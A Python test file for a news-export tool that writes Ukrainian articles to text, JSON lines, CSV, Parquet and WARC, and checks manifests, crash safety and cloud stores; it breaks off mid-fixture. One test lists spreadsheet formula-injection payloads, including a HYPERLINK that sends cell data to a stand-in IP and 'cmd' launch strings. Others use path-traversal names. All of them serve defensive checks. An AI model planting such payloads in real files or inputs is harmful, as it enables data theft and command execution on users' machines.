from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from fsspec.implementations.memory import MemoryFileSystem
from upath import UPath

from newswire import db, delivery, export, parquet, spreadsheet, warc
from newswire.local import airflow
from newswire.local.postgres import Cluster
from newswire.model import Article, Block, BlockKind, Link, Media, TimeOrigin, Window
from newswire.window import KYIV, moment
from tests.installed import NEWS_TEMPLATE, airflow_template
from tests.stored import keep

ROOT = Path(__file__).parents[1]
AT = datetime(2026, 2, 20, 15, 5, tzinfo=KYIV)
WINDOW = Window(moment("2026-02-19"), moment("2026-02-22"))

MIST = Article(
    source="unn",
    feed="uk",
    external_id="news/mist",
    url="https://unn.ua/news/mist",
    title="У Вербівці відкрили міст - Коваль",
    lead="Рух дозволено всім.",
    body=(
        Block(BlockKind.PARAGRAPH, "Міст відкрили сьогодні."),
        Block(BlockKind.DETAILS, "Деталі"),
        Block(BlockKind.PARAGRAPH, 'Рядок з "лапками", \\ та \u2028 і 👍'),
    ),
    published_at=AT,
    time_origin=TimeOrigin.FEED,
    modified_at=datetime(2026, 2, 20, 16, 0, tzinfo=UTC),
    authors=("Тарас Велигура",),
    tags=("міст", "дорога"),
    media=(Media("photo", "https://img.unn.ua/1.webp", "Міст", {"size": 7}),),
    links=(Link("https://example.com/", "слово"),),
    editions={"ru": "https://unn.ua/ru/news/most"},
    language="uk",
    language_confidence=0.5,
    views=1962,
    reactions={"👍": 53900},
)
POST = replace(
    MIST, source="telegram", feed="mist", external_id="mist/7", url="https://t.me/mist/7", title=None, lead=None,
    body=(Block(BlockKind.PARAGRAPH, "Ранок."), Block(BlockKind.PARAGRAPH, ""), Block(BlockKind.PARAGRAPH, "Світло є.")),
    time_origin=TimeOrigin.POST, modified_at=None,
)  # fmt: skip


def files(folder: Path) -> dict[str, str]:
    return {path.relative_to(folder).as_posix(): path.read_bytes().decode() for path in folder.rglob("*") if path.is_file()}


def lines(folder: Path, day: str) -> list[dict[str, Any]]:
    text = (folder / day / "articles.jsonl").read_bytes().decode()
    return [json.loads(line) for line in text.split("\n")[:-1]]


# The plain form


def test_the_plain_form_is_date_title_lead_and_paragraphs() -> None:
    text = export.plain_text("Міст - Коваль", "Рух дозволено.", "Перший.\nДеталі\nДругий.", AT)
    assert text == " date 2026-02-20 Міст - Коваль\nРух дозволено.\nПерший.\nДеталі\nДругий."


@pytest.mark.parametrize(
    ("title", "lead", "body", "expected"),
    [
        (None, None, "Ранок.\n\nСвітло є.", " date 2026-02-20\nРанок.\n\nСвітло є."),
        ("Міст", None, "Рух.", " date 2026-02-20 Міст\nРух."),
        (None, "Лід.", "", " date 2026-02-20\nЛід."),
        (None, None, "", " date 2026-02-20"),
    ],
)
def test_what_is_missing_leaves_no_line_behind(title: str | None, lead: str | None, body: str, expected: str) -> None:
    assert export.plain_text(title, lead, body, AT) == expected


@pytest.mark.parametrize(
    ("at", "day"),
    [
        ("2026-02-20T21:59:59+00:00", "2026-02-20"),
        ("2026-02-20T22:00:00+00:00", "2026-02-21"),
        ("2026-07-20T21:00:00+00:00", "2026-07-21"),
    ],
)
def test_the_day_is_kyivs(at: str, day: str) -> None:
    assert export.plain_text("x", None, "y", datetime.fromisoformat(at)).startswith(f" date {day} x")


# Folders


def test_a_day_is_a_text_an_article_and_a_line_an_article(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    assert export.export(connection, WINDOW, tmp_path) == {"2026-02-20": 2}
    found = files(tmp_path)
    own = {"articles.jsonl", "text/unn_1.txt", "text/telegram_2.txt", "_manifest.json"}
    assert set(found) == {f"2026-02-20/{name}" for name in own}
    assert found["2026-02-20/text/unn_1.txt"] == export.plain_text(MIST.title, MIST.lead, MIST.text, AT)
    assert found["2026-02-20/text/telegram_2.txt"] == " date 2026-02-20\nРанок.\n\nСвітло є."


def test_json_lines_hold_what_was_stored(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST)
    export.export(connection, WINDOW, tmp_path)
    (line,) = lines(tmp_path, "2026-02-20")
    for name in (
        "source",
        "feed",
        "external_id",
        "url",
        "title",
        "lead",
        "language",
        "language_confidence",
        "views",
        "reactions",
        "edited",
    ):
        assert line[name] == getattr(MIST, name), name
    assert line["body"] == MIST.text
    assert line["body_kinds"] == [block.kind for block in MIST.body]
    assert (line["authors"], line["tags"], line["editions"]) == (list(MIST.authors), list(MIST.tags), dict(MIST.editions))
    assert line["media"] == [{"kind": "photo", "url": "https://img.unn.ua/1.webp", "title": "Міст", "details": {"size": 7}}]
    assert line["links"] == [{"url": "https://example.com/", "text": "слово", "kind": "text"}]
    assert datetime.fromisoformat(line["published_at"]) == MIST.published_at
    assert datetime.fromisoformat(line["modified_at"]) == MIST.modified_at
    assert line["original_id"] is None


def test_only_what_was_asked_for_is_written(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST, replace(MIST, external_id="ru/news/most", url="https://unn.ua/ru/news/most", language="ru"))
    with db.transaction(connection), connection.cursor() as cursor:
        cursor.execute(
            "insert into core.duplicate (article_id, original_id, kind, similarity, reason) values (3, 1, 'exact', 1, 'x')"
        )
    assert export.export(connection, WINDOW, tmp_path, sources=["telegram"]) == {"2026-02-20": 1}
    assert export.export(connection, WINDOW, tmp_path, languages=["ru", "en"]) == {"2026-02-20": 1}
    assert export.export(connection, WINDOW, tmp_path, originals=True) == {"2026-02-20": 2}
    assert export.export(connection, WINDOW, tmp_path) == {"2026-02-20": 3}
    assert lines(tmp_path, "2026-02-20")[2]["original_id"] == 1
    assert export.export(connection, Window(moment("2026-02-21"), moment("2026-02-22")), tmp_path) == {}
    assert len(lines(tmp_path, "2026-02-20")) == 3


def test_a_day_is_replaced_as_a_whole_and_the_same_again(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path)
    first = files(tmp_path)
    (tmp_path / "2026-02-20" / "text" / "stale.txt").write_text("x")
    export.export(connection, WINDOW, tmp_path)
    assert files(tmp_path) == first
    assert {path.name for path in tmp_path.iterdir()} == {"2026-02-20"}


def test_a_window_that_begins_or_ends_within_a_day_does_not_cut_the_day(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, replace(POST, published_at=moment("2026-02-20T20:00")))
    export.export(connection, WINDOW, tmp_path)
    whole = files(tmp_path)
    assert export.export(connection, Window(moment("2026-02-20T18:00"), moment("2026-02-21")), tmp_path) == {"2026-02-20": 2}
    assert export.export(connection, Window(moment("2026-02-19"), moment("2026-02-20T18:00")), tmp_path) == {"2026-02-20": 2}
    assert files(tmp_path) == whole


@pytest.mark.parametrize("others", [0, 1])
def test_an_article_that_moved_to_another_day_leaves_nothing_behind(
    connection: db.Connection, tmp_path: Path, others: int
) -> None:
    keep(connection, MIST, *[POST][:others])
    export.export(connection, WINDOW, tmp_path)
    keep(connection, replace(MIST, published_at=moment("2026-02-19T23:00")))
    assert export.export(connection, WINDOW, tmp_path).get("2026-02-20", 0) == others
    assert [path.parts[-3] for path in tmp_path.rglob("unn_1.txt")] == ["2026-02-19"]
    assert [line["source"] for path in tmp_path.glob("2026-02-20/*.jsonl") for line in lines(tmp_path, path.parent.name)] == [
        "telegram"
    ] * others


def test_days_outside_the_window_and_strange_things_are_left_alone(connection: db.Connection, tmp_path: Path) -> None:
    for name in ("2026-02-18", "2026-02-22", "notes", "2026-02-20.old"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "kept.txt").write_text("x")
    (tmp_path / "2026-02-19").write_text("a file")
    export.export(connection, WINDOW, tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {"2026-02-18", "2026-02-19", "2026-02-22", "notes", "2026-02-20.old"}


def test_a_crash_half_way_leaves_the_former_day_readable_and_the_next_run_mends_it(
    connection: db.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path)
    former = files(tmp_path)
    keep(connection, replace(MIST, title="Інший заголовок"))

    def fail_at_the_second(title: str | None, *_: object) -> str:
        if title is None:
            raise OSError("no space left on device")
        return "half"

    with monkeypatch.context() as patched:
        patched.setattr(export, "plain_text", fail_at_the_second)
        with pytest.raises(OSError, match="no space left"):
            export.export(connection, WINDOW, tmp_path)
    assert {name: text for name, text in files(tmp_path).items() if not name.startswith(".")} == former
    (run,) = db.select(connection, "select error from mart.run where state = 'failed'")
    assert run["error"] == "OSError: no space left on device"
    export.export(connection, WINDOW, tmp_path)
    assert lines(tmp_path, "2026-02-20")[0]["title"] == "Інший заголовок"
    assert {path.name for path in tmp_path.iterdir()} == {"2026-02-20"}


def test_a_process_that_is_killed_while_it_writes_leaves_a_whole_day(
    connection: db.Connection, database_url: str, tmp_path: Path
) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path)
    former = files(tmp_path)
    code = (
        "import os, sys, signal; from pathlib import Path; from newswire import db, export; from newswire.window import window\n"
        "export.plain_text = lambda *_: os.kill(os.getpid(), signal.SIGKILL)\n"
        "export.export(db.connect(sys.argv[1]), window('2026-02-19', '2026-02-22', None), Path(sys.argv[2]))"
    )
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "plugins")}
    done = subprocess.run([sys.executable, "-c", code, database_url, str(tmp_path)], env=environment, check=False)
    assert done.returncode == -9
    assert {name: text for name, text in files(tmp_path).items() if not name.startswith(".")} == former
    export.export(connection, WINDOW, tmp_path)
    assert files(tmp_path) == former


@pytest.mark.parametrize("source", ["../../evil", "/etc/evil", "a b\nc", "..", "новини", "x" * 60])
def test_no_name_of_a_source_leads_out_of_the_days_folder(connection: db.Connection, tmp_path: Path, source: str) -> None:
    keep(connection, replace(MIST, source=source))
    folder = tmp_path / "a" / "b" / "export"
    export.export(connection, WINDOW, folder)
    (text,) = folder.glob("2026-02-20/text/*_1.txt")
    assert text.read_text(encoding="utf-8").startswith(" date 2026-02-20 ")
    assert [path for path in tmp_path.rglob("*") if path.is_file() and folder / "2026-02-20" not in path.parents] == []
    assert lines(folder, "2026-02-20")[0]["source"] == source


# --- manifests


def manifest(place: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((place / "_manifest.json").read_text(encoding="utf-8"))
    return found


def listed(place: Path) -> set[str]:
    return {file["path"] for section in manifest(place)["formats"].values() for file in section["files"]}


def assert_true(place: Path) -> None:
    """Every file is named by the manifest, with its size and hash, and nothing else is there."""
    for section in manifest(place)["formats"].values():
        for file in section["files"]:
            content = (place / file["path"]).read_bytes()
            assert (file["bytes"], file["sha256"]) == (len(content), hashlib.sha256(content).hexdigest())
    present = {path.relative_to(place).as_posix() for path in place.rglob("*") if path.is_file()}
    assert present == {*listed(place), "_manifest.json"}


def test_the_manifest_names_every_file_with_its_rows_and_hash(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path, formats=export.FORMATS, languages=["uk"])
    for place in (tmp_path / "2026-02-20", tmp_path / "parquet" / "day=2026-02-20"):
        assert_true(place)
    told = manifest(tmp_path / "2026-02-20")
    assert (told["day"], sorted(told["formats"])) == ("2026-02-20", ["csv", "jsonl", "text"])
    assert told["formats"]["jsonl"]["rows"] == 2
    assert [file["rows"] for file in told["formats"]["text"]["files"]] == [1, 1]
    assert told["formats"]["csv"]["selection"] == {"sources": None, "languages": ["uk"], "originals": False}


def test_what_another_export_wrote_in_other_formats_stays(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path)
    before = files(tmp_path)
    export.export(connection, WINDOW, tmp_path, formats=["csv"], sources=["unn"])
    assert {name: text for name, text in files(tmp_path).items() if name in before and "manifest" not in name} == {
        name: text for name, text in before.items() if "manifest" not in name
    }
    assert_true(tmp_path / "2026-02-20")
    assert {name: section["rows"] for name, section in manifest(tmp_path / "2026-02-20")["formats"].items()} == {
        "csv": 1, "jsonl": 2, "text": 2,
    }  # fmt: skip
    keep(
        connection, replace(MIST, published_at=moment("2026-02-19T23:00")), replace(POST, published_at=moment("2026-02-19T23:00"))
    )
    export.export(connection, WINDOW, tmp_path, formats=["text", "csv"])
    assert listed(tmp_path / "2026-02-20") == {"articles.jsonl"}
    export.export(connection, WINDOW, tmp_path, formats=["jsonl", "parquet"])
    assert sorted(path.name for path in tmp_path.iterdir()) == ["2026-02-19", "parquet"]
    assert [path.name for path in (tmp_path / "parquet").iterdir()] == ["day=2026-02-19"]


def test_a_day_lost_between_two_renames_comes_back_with_any_later_export(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST)
    export.export(connection, WINDOW, tmp_path, formats=["jsonl", "parquet"])
    (tmp_path / "2026-02-20").rename(tmp_path / ".2026-02-20.former")
    (tmp_path / "parquet" / "day=2026-02-20").rename(tmp_path / "parquet" / ".day=2026-02-20.former")
    other = Window(moment("2026-02-27"), moment("2026-02-28"))
    assert export.export(connection, other, tmp_path, formats=["csv", "parquet"]) == {}
    assert_true(tmp_path / "2026-02-20")
    assert_true(tmp_path / "parquet" / "day=2026-02-20")


@pytest.mark.parametrize("content", ["", "[]", "{}", '{"formats": 7}', "\x00"])
def test_a_manifest_that_is_none_is_replaced(connection: db.Connection, tmp_path: Path, content: str) -> None:
    (tmp_path / "2026-02-20").mkdir()
    (tmp_path / "2026-02-20" / "_manifest.json").write_text(content)
    keep(connection, MIST)
    export.export(connection, WINDOW, tmp_path)
    assert_true(tmp_path / "2026-02-20")


def test_two_exports_to_one_folder_at_once_do_not_mix(connection: db.Connection, database_url: str, tmp_path: Path) -> None:
    keep(connection, *(replace(MIST, external_id=f"news/{n}", url=f"https://unn.ua/news/{n}") for n in range(300)))

    def again() -> None:
        opened = db.connect(database_url)
        export.export(opened, WINDOW, tmp_path, formats=["text", "jsonl", "csv"])
        opened.close()

    threads = [threading.Thread(target=again) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert_true(tmp_path / "2026-02-20")
    assert [row["state"] for row in db.select(connection, "select state from core.run where verb = 'export'")] == ["done"] * 3


@pytest.mark.parametrize(
    ("formats", "selection", "said"),
    [
        ([], export.Selection(), "an export needs a format"),
        (["text", "xlsx"], export.Selection(), "there is no format xlsx; there are: text, jsonl, csv, parquet, warc"),
        (["warc"], export.Selection(languages=("uk",)), "WARC holds pages as they came"),
        (["warc", "csv"], export.Selection(originals=True), "WARC holds pages as they came"),
    ],
)
def test_what_does_not_go_together_is_refused_before_anything_is_written(
    connection: db.Connection, tmp_path: Path, formats: list[str], selection: export.Selection, said: str
) -> None:
    with pytest.raises(ValueError, match=said):
        export.deliver(connection, WINDOW, tmp_path, formats, selection)
    assert list(tmp_path.iterdir()) == []


def test_what_is_delivered_is_told_place_by_place(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    now = datetime.now(UTC)
    delivered = export.deliver(connection, Window(moment("2026-02-19"), now), tmp_path, export.ALL_FORMATS)
    today = now.date().isoformat()
    assert [(one.day, one.rows, one.what, one.place) for one in delivered] == [
        ("2026-02-20", 2, "articles", "2026-02-20"),
        ("2026-02-20", 2, "articles", "parquet/day=2026-02-20"),
        (today, 2, "pages", f"warc/{today}"),
    ]


# --- Parquet


def test_parquet_is_typed_partitioned_and_says_what_its_columns_mean(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST, replace(MIST, external_id="x", url="https://unn.ua/x", published_at=moment("2026-02-21T00:30")))
    export.export(connection, WINDOW, tmp_path, formats=["parquet"])
    found = ds.dataset(tmp_path / "parquet", partitioning=ds.partitioning(pa.schema([("day", pa.date32())]), flavor="hive"))
    table = found.to_table(filter=ds.field("day") == date(2026, 2, 20), columns=["article_id", "published_at", "source", "day"])
    assert table.to_pylist() == [
        {"article_id": number, "published_at": AT.astimezone(UTC), "source": name, "day": date(2026, 2, 20)}
        for number, name in ((1, "unn"), (2, "telegram"))
    ]
    assert found.count_rows() == 3
    file = pq.ParquetFile(tmp_path / "parquet" / "day=2026-02-20" / "part-0.parquet")
    assert file.metadata.row_group(0).column(0).compression == "ZSTD"
    kinds = {field.name: str(field.type) for field in file.schema_arrow}
    assert kinds["published_at"] == "timestamp[us, tz=UTC]"
    assert kinds["tags"] == "list<element: string>"
    assert kinds["source"].startswith("dictionary<values=string")
    (meaning,) = db.select(connection, "select col_description('mart.article'::regclass, attnum) as told from pg_attribute"
                                       " where attrelid = 'mart.article'::regclass and attname = 'lead'")  # fmt: skip
    assert file.schema_arrow.field("lead").metadata[b"comment"].decode() == meaning["told"]
    assert file.schema_arrow.field("links").metadata[b"json"] == b'list of {"url", "text", "kind"}'


def test_every_column_of_the_export_is_in_parquet_and_has_a_meaning(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST)
    export.export(connection, WINDOW, tmp_path, formats=["jsonl", "parquet"])
    schema = pq.read_schema(tmp_path / "parquet" / "day=2026-02-20" / "part-0.parquet")
    assert schema.names == list(lines(tmp_path, "2026-02-20")[0])
    assert [field.name for field in schema if not field.metadata.get(b"comment")] == []


def test_parquet_gives_back_what_json_lines_say(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, tmp_path, formats=["jsonl", "parquet"])
    told = pq.read_table(tmp_path / "parquet" / "day=2026-02-20" / "part-0.parquet").to_pylist()
    for row, line in zip(told, lines(tmp_path, "2026-02-20"), strict=True):
        for name, value in row.items():
            expected = line[name]
            if name in parquet.JSON_COLUMNS:
                assert json.loads(value) == expected
            elif isinstance(value, datetime):
                assert value == datetime.fromisoformat(expected)
            else:
                assert value == (pytest.approx(expected) if isinstance(expected, float) else expected), name


def test_a_large_day_is_written_in_groups_of_rows(
    connection: db.Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parquet, "GROUP", 10)
    monkeypatch.setattr(export, "ROWS_AT_ONCE", 4)
    keep(connection, *(replace(MIST, external_id=f"news/{n}", url=f"https://unn.ua/news/{n}") for n in range(27)))
    export.export(connection, WINDOW, tmp_path, formats=["parquet", "jsonl", "csv"])
    file = pq.ParquetFile(tmp_path / "parquet" / "day=2026-02-20" / "part-0.parquet")
    assert [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)] == [12, 12, 3]
    assert [row["article_id"] for row in file.read().to_pylist()] == list(range(1, 28))
    assert len(lines(tmp_path, "2026-02-20")) == len(sheet(tmp_path, "2026-02-20")) == 27


# --- CSV


def sheet(folder: Path, day: str) -> list[dict[str, str]]:
    content = (folder / day / "articles.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfarticle_id,published_at_kyiv,")
    assert content.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_opens_in_a_spreadsheet_with_lists_joined_and_times_of_kyiv(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST, replace(POST, forwarded_from="march/5", reply_to="march/7"))
    export.export(connection, WINDOW, tmp_path, formats=["csv"])
    article, post = sheet(tmp_path, "2026-02-20")
    assert (article["title"], article["body"]) == (MIST.title, MIST.text)
    assert (article["published_at_kyiv"], article["modified_at_kyiv"]) == ("2026-02-20 15:05:00", "2026-02-20 18:00:00")
    assert (article["tags"], article["links"], article["reactions"]) == ("міст; дорога", "https://example.com/", "👍 53900")
    assert (article["media"], article["editions"]) == ("photo Міст https://img.unn.ua/1.webp", "ru https://unn.ua/ru/news/most")
    assert (article["views"], article["edited"], article["original_id"]) == ("1962", "no", "")
    assert (post["title"], post["forwarded_from"], post["reply_to"]) == ("", "https://t.me/march/5", "https://t.me/march/7")


HOSTILE = [
    '=HYPERLINK("http://203.0.113.5/?"&A1;"Click")',
    "+380441234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  =1+1",
    "＝1+1",
    "\u00a0=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_hostile_text_is_calculated(connection: db.Connection, tmp_path: Path, text: str) -> None:
    hostile = replace(
        MIST, title=text, lead=text, body=(Block(BlockKind.PARAGRAPH, text),), authors=(text,), tags=(text, "x"), section=text,
        dateline=text, cited_source=text, forwarded_from=text, media=(Media(text),), reactions={text: 1},
    )  # fmt: skip
    keep(connection, hostile)
    export.export(connection, WINDOW, tmp_path, formats=["csv"])
    (row,) = sheet(tmp_path, "2026-02-20")
    for name, shown in row.items():
        assert shown.strip()[:1] not in ("=", "+", "-", "@", "＝"), name
    assert row["title"] == f"'{text}"


def test_quotes_commas_and_line_breaks_stay_in_their_cell(connection: db.Connection, tmp_path: Path) -> None:
    text = 'Він сказав: "Так, ""ні"" і навпаки", а потім\tпішов;'
    keep(connection, replace(MIST, title=text, body=(Block(BlockKind.PARAGRAPH, text), Block(BlockKind.PARAGRAPH, ',"\u2028'))))
    export.export(connection, WINDOW, tmp_path, formats=["csv"])
    (row,) = sheet(tmp_path, "2026-02-20")
    assert (row["title"], row["body"]) == (text, f'{text}\n,"\u2028')


@pytest.mark.parametrize(("letter", "width"), [("я", 1), ("👍", 2)])
def test_a_cell_is_cut_where_a_spreadsheet_would_lose_text(letter: str, width: int) -> None:
    longest = spreadsheet.LONGEST // width
    assert spreadsheet.cell(letter * longest) == letter * longest
    cut = spreadsheet.cell(letter * (longest + 1))
    assert cut.endswith(spreadsheet.CUT)
    assert spreadsheet.LONGEST - 1 <= len(cut.encode("utf-16-le")) // 2 <= spreadsheet.LONGEST
    assert set(cut.removesuffix(spreadsheet.CUT)) == {letter}


# --- stores


@pytest.fixture
def bucket() -> Iterator[UPath]:
    folder = UPath("memory://bucket/news")
    yield folder
    MemoryFileSystem.store.clear()


def stored(folder: UPath) -> dict[str, bytes]:
    return {name.removeprefix(f"{folder.path}/"): folder.fs.cat_file(name) for name in folder.fs.find(folder.path)}


def test_a_store_gets_the_same_files_as_a_folder(connection: db.Connection, tmp_path: Path, bucket: UPath) -> None:
    keep(connection, MIST, POST)
    formats = export.FORMATS
    assert export.export(connection, WINDOW, bucket, formats=formats) == export.export(
        connection, WINDOW, tmp_path, formats=formats
    )
    found = stored(bucket)
    assert found == {path.relative_to(tmp_path).as_posix(): path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    export.export(connection, WINDOW, bucket, formats=formats)
    assert stored(bucket) == found


def test_a_local_url_is_a_local_folder(connection: db.Connection, tmp_path: Path) -> None:
    keep(connection, MIST)
    export.export(connection, WINDOW, UPath(f"file://{tmp_path}/out"))
    assert_true(tmp_path / "out" / "2026-02-20")


def test_in_a_store_too_an_article_that_moved_leaves_nothing_behind(connection: db.Connection, bucket: UPath) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, bucket, formats=["text", "csv"])
    bucket.fs.pipe_file(f"{bucket.path}/2026-02-20/notes.txt", b"somebody's own")
    keep(connection, replace(MIST, published_at=moment("2026-02-19T23:00")))
    export.export(connection, WINDOW, bucket, formats=["text"])
    names = {"2026-02-19/text/unn_1.txt", "2026-02-20/text/telegram_2.txt", "2026-02-20/articles.csv", "2026-02-20/notes.txt"}
    assert {name for name in stored(bucket) if "manifest" not in name} == names
    keep(connection, replace(POST, published_at=moment("2026-02-19T23:00")))
    export.export(connection, WINDOW, bucket, formats=["text", "csv"])
    assert [name for name in stored(bucket) if name.startswith("2026-02-20/")] == ["2026-02-20/notes.txt"]


def told(folder: UPath, day: str = "2026-02-20") -> dict[str, Any]:
    found = stored(folder).get(f"{day}/_manifest.json")
    return json.loads(found)["formats"] if found else {}


def assert_readable(folder: UPath) -> None:
    """Who goes by the manifest finds every file that it names, as it describes it."""
    found = stored(folder)
    for section in told(folder).values():
        for file in section["files"]:
            assert hashlib.sha256(found[f"2026-02-20/{file['path']}"]).hexdigest() == file["sha256"]


@pytest.mark.parametrize("calls", range(1, 9))
def test_who_reads_a_store_by_its_manifest_never_sees_half_a_day_whenever_the_writer_dies(
    connection: db.Connection, bucket: UPath, monkeypatch: pytest.MonkeyPatch, calls: int
) -> None:
    keep(connection, MIST, POST)
    export.export(connection, WINDOW, bucket, formats=["text", "jsonl", "csv"])
    keep(connection, replace(MIST, title="Інший"), replace(POST, published_at=moment("2026-02-19T23:00")))
    left = [calls]

    def dying(call: Callable[..., Any]) -> Callable[..., Any]:
        def dies(*args: Any, **more: Any) -> Any:
            assert_readable(bucket)
            left[0] -= 1
            if left[0] == 0:
                raise OSError("the store is gone")
            return call(*args, **more)

        return dies

    with monkeypatch.context() as patched:
        for name in ("put_file", "pipe_file", "rm_file"):
            patched.setattr(MemoryFileSystem, name, dying(getattr(MemoryFileSystem, name)))
        with pytest.raises(OSError, match="the store is gone"):
            export.export(connection, WINDOW, bucket, formats=["text", "jsonl"])
    assert_readable(bucket)
    assert "csv" in told(bucket), "formats that were not asked for stay readable throughout"
    export.export(connection, WINDOW, bucket, formats=["text", "jsonl", "csv"])
    once = stored(bucket)
    MemoryFileSystem.store.clear()
    export.export(connection, WINDOW, bucket, formats=["text", "jsonl", "csv"])
    assert stored(bucket) == once


S3 = """
import json, os, sys
from newswire import db, export
from newswire.window import window
from airflow.sdk import ObjectStoragePath

folder = ObjectStoragePath("s3://store@news/export")
folder.fs.mkdir("news")
for _ in range(2):
    export.deliver(db.connect(sys.argv[1]), window("2026-02-19", "2026-02-22", None), folder, export.FORMATS)
folder.fs.get("news/export/", sys.argv[2], recursive=True)
export.export(db.connect(sys.argv[1]), window("2026-02-19", "2026-02-22", None), folder, formats=["csv"], sources=["unn"])
folder.fs.get("news/export/", sys.argv[3], recursive=True)
"""
"""An export into a bucket of S3 through the path that Airflow gives a task, with the connection `store`."""


@pytest.fixture
def s3(tmp_path: Path) -> Iterator[str]:
    """Address of an S3 server on loopback."""
    for name in ("moto", "s3fs", "airflow.providers.amazon"):
        wanted = (
            "pip install 'moto[s3,server]' s3fs apache-airflow-providers-amazon (not in the lock: they ask for an older urllib3)"
        )
        pytest.importorskip(name, reason=wanted)
    log = tmp_path / "s3.log"
    with log.open("w") as output:
        server = subprocess.Popen([sys.executable, "-m", "moto.server", "-p", "0"], stdout=output, stderr=output)
    try:
        while not (found := re.search(r"http://127\.0\.0\.1:\d+", log.read_text())):
            assert server.poll() is None, log.read_text()
            time.sleep(0.1)
        yield found.group()
    finally:
        server.terminate()
        server.wait(10)


def test_a_bucket_gets_whole_days_through_airflows_path(
    connection: db.Connection, database_url: str, tmp_path: Path, s3: str
) -> None:
    keep(connection, MIST, POST)
    store = {"conn_type": "aws", "login": "x", "password": "x", "extra": {"endpoint_url": s3, "region_name": "us-east-1"}}
    env = {**os.environ, "AIRFLOW_CONN_STORE": json.dumps(store), "AIRFLOW_HOME": str(tmp_path / "airflow")}
    subprocess.run(
        [sys.executable, "-c", S3, database_url, f"{tmp_path}/whole/", f"{tmp_path}/one/"],
        env=env | {"PYTHONPATH": str(ROOT / "plugins")}, check=True, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    export.export(connection, WINDOW, tmp_path / "folder", formats=export.FORMATS)
    assert {path.relative_to(tmp_path / "whole"): path.read_bytes() for path in (tmp_path / "whole").rglob("*.*")} == {
        path.relative_to(tmp_path / "folder"): path.read_bytes() for path in (tmp_path / "folder").rglob("*.*")
    }
    for place in ("2026-02-20", "parquet/day=2026-02-20"):
        assert_true(tmp_path / "whole" / place)
        assert_true(tmp_path / "one" / place)
    assert manifest(tmp_path / "one" / "2026-02-20")["formats"]["csv"]["rows"] == 1


# --- the shell and the Dag


def call(url: str, *arguments: str, **variables: str) -> subprocess.CompletedProcess[str]:
    kept = {key: value for key, value in os.environ.items() if not key.startswith("NEWSWIRE_")}
    env = {**kept, "PYTHONPATH": str(ROOT / "plugins"), "NEWSWIRE_DATABASE_URL": url, **variables}
    command = [sys.executable, "-m", "newswire", "export", "--from", "2026-02-19", "--to", "2026-02-22", *arguments]
    return subprocess.run(command, env=env, capture_output=True, text=True, check=False, timeout=120)


def test_the_verb_writes_formats_to_paths_and_urls(connection: db.Connection, database_url: str, tmp_path: Path) -> None:
    keep(connection, MIST, POST)
    done = call(database_url, "--format", "csv", "parquet", "--folder", f"file://{tmp_path}/out")
    assert (done.returncode, done.stderr) == (0, "")
    places = [f"{tmp_path}/out/2026-02-20", f"{tmp_path}/out/parquet/day=2026-02-20"]
    assert [line.partition(" in ")[2].removeprefix("file://") for line in done.stdout.splitlines()] == places
    assert all(line.startswith("2026-02-20: 2 articles in ") for line in done.stdout.splitlines())
    done = call(database_url, "--format", "warc", NEWSWIRE_EXPORT=f"file://{tmp_path}/default")
    assert (done.returncode, done.stdout.partition(" from ")[0]) == (0, "no pages")
    done = call(database_url, "--sources", "telegram", NEWSWIRE_EXPORT=f"file://{tmp_path}/default")
    assert done.stdout.startswith("2026-02-20: 1 articles in ")
    assert_true(tmp_path / "default" / "2026-02-20")


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--folder", "s3://bucket/news"), "s3fs"),
        (("--folder", "nothing://bucket"), "nothing"),
        (("--format", "warc", "--languages", "uk"), "WARC holds pages as they came"),
    ],
)
def test_what_the_verb_cannot_do_is_one_line(database_url: str, arguments: tuple[str, ...], said: str) -> None:
    done = call(database_url, *arguments)
    assert (done.returncode, done.stdout) == (2, "")
    (line,) = done.stderr.splitlines()
    assert said in line


@pytest.fixture(scope="module")
def installation(cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    home, news = tmp_path_factory.mktemp("airflow"), cluster.ensure_database("export_news", template=NEWS_TEMPLATE)
    connection = db.connect(news)
    keep(connection, MIST, POST)
    connection.close()
